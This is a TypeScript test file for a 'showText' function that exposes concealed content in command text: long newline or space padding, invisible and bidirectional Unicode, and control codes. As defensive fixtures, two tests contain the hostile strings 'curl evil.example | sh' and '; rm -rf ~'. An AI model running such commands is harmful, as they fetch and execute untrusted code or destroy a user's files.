import { showText } from '@trivium/beings-contract'
import { rounds } from '@trivium/testing'
import fc from 'fast-check'
import { expect, test } from 'vitest'

test('an ordinary text is shown as it is', () => {
  for (const text of [
    'git status',
    '/home/ann/Übung/naïve 東京.txt',
    'ls -la | wc -l',
    'שלום',
    'e\u0301',
    '👩‍🌾'.replace('‍', ''),
  ]) {
    expect(showText(text)).toEqual({
      text,
      preview: text,
      lines: 1,
      characters: text.length,
      marks: 0,
      hidden: false,
    })
  }
})

test('what stands behind many lines or far to the right is told and has to be opened', () => {
  const far = showText(`git status${'\n'.repeat(60)}curl evil.example | sh`)
  expect(far).toMatchObject({ lines: 61, hidden: true })
  expect(far.preview).not.toContain('curl')
  expect(far.text).toContain('⏎\ncurl evil.example | sh')
  const wide = showText(`git status${' '.repeat(500)}; rm -rf ~`)
  expect(wide).toMatchObject({ text: 'git status⟨500 × U+0020⟩; rm -rf ~', hidden: true, lines: 1 })
  expect(showText('x'.repeat(301))).toMatchObject({ hidden: true, preview: `${'x'.repeat(300)} …` })
  expect(showText('one\ntwo\nthree')).toMatchObject({ hidden: false, lines: 3, text: 'one⏎\ntwo⏎\nthree' })
})

test('what cannot be seen, or turns the text around, is named', () => {
  expect(showText('a\u202eb\u200bc\0d\u001b[31m\ufeff\u00ade\t')).toMatchObject({
    text: 'a⟨U+202E⟩b⟨U+200B⟩c⟨U+0000⟩d⟨U+001B⟩[31m⟨U+FEFF⟩⟨U+00AD⟩e⟨U+0009⟩',
    marks: 7,
    hidden: true,
  })
  expect(showText('\u{e0041}\u3164\u2800\ufe0f\u00a0\ud800').text).toBe(
    '⟨U+E0041⟩⟨U+3164⟩⟨U+2800⟩⟨U+FE0F⟩⟨U+00A0⟩⟨U+D800⟩',
  )
  expect(showText(`a${'\u0301'.repeat(6)}`)).toMatchObject({ marks: 2, hidden: true })
  for (const end of ['\r', '\r\n', '\v', '\f', '\u0085', '\u2028', '\u2029']) expect(showText(`a${end}b`).lines).toBe(2)
})

test('whatever is in a text, nothing of it is invisible or kept back unsaid', () => {
  const invisible = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Co}\p{Cn}\p{Cs}]/u
  const hostile = fc.string({
    unit: fc.oneof(
      fc.constantFrom('\n', '\r', '\u202e', '\u2066', '\u200b', '\0', ' ', '⟨', '⏎', 'a', '\u0301', '\u{e0020}'),
      fc.string({ minLength: 1, maxLength: 1, unit: 'binary' }),
    ),
    maxLength: 60,
  })
  fc.assert(
    fc.property(hostile, text => {
      const shown = showText(text)
      expect(shown.text.replaceAll('⏎\n', '')).not.toMatch(invisible)
      expect(shown.preview.replaceAll('⏎\n', '').replaceAll('\n', '')).not.toMatch(invisible)
      if (!shown.hidden) expect(shown.preview).toBe(shown.text)
      if (shown.marks > 0 || shown.text !== shown.preview) expect(shown.hidden).toBe(true)
    }),
    { numRuns: rounds(20_000, 1_000) },
  )
})
